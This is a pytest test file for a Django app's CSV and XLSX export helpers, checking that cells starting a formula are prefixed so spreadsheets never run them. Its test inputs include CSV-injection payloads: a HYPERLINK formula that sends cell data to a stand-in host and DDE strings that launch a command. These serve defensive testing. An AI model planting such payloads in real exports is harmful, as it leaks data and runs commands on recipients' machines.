"""Spreadsheet exports never hand a spreadsheet a formula (OWASP "CSV injection"):
the helper itself, and every export the API offers."""

import csv
import io

import openpyxl
import pytest

from atelier.exports import csv_response, safe_cell, xlsx_response
from tests.kempenkaart.factories import InstrumentFactory, ProjectFactory

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


def read_csv(response):
    body = b"".join(response.streaming_content).decode("utf-8")
    assert body.startswith("\ufeff")  # Excel reads UTF-8 with a BOM
    return list(csv.DictReader(io.StringIO(body[1:])))


@pytest.mark.parametrize("text", HOSTILE)
def test_a_cell_that_starts_a_formula_is_prefixed_and_stays_readable(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value", ["Herbestemming pastorie", "a=b", "", None, 3, -4.5, 51.3]
)
def test_other_cells_are_left_as_they_are(value):
    assert safe_cell(value) == value


def test_csv_response_neutralises_every_cell_and_the_header():
    response = csv_response(
        "lijst", ["titel", "=kop"], [[text, "gewoon"] for text in HOSTILE]
    )
    assert response["Content-Disposition"] == 'attachment; filename="lijst.csv"'
    rows = read_csv(response)
    assert list(rows[0]) == ["titel", "'=kop"]
    assert [row["titel"] for row in rows] == ["'" + text for text in HOSTILE]


def test_xlsx_response_writes_text_cells_that_are_never_formulas():
    response = xlsx_response(
        "lijst", ["titel", "aantal"], [[text, 3] for text in HOSTILE]
    )
    assert response["Content-Disposition"] == 'attachment; filename="lijst.xlsx"'
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert [cell.value for cell in cells] == ["'" + text for text in HOSTILE]
    assert {cell.data_type for cell in cells} == {"s"}
    assert sheet["B2"].value == 3


@pytest.mark.django_db
@pytest.mark.parametrize("title", HOSTILE[:4])
def test_the_project_csv_export_is_not_a_formula(client, title):
    ProjectFactory(title=title, slug="p")
    rows = read_csv(client.get("/api/projecten/", {"format": "csv"}))
    assert rows[0]["titel"] == "'" + title
    assert float(rows[0]["lon"]) > 4  # numbers stay numbers


@pytest.mark.django_db
def test_the_instrument_csv_export_is_not_a_formula(client):
    InstrumentFactory(name="@SUM(1+1)*cmd|' /C calc'!A0", slug="rup")
    rows = read_csv(client.get("/api/instrumenten/", {"format": "csv"}))
    assert rows[0]["naam"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
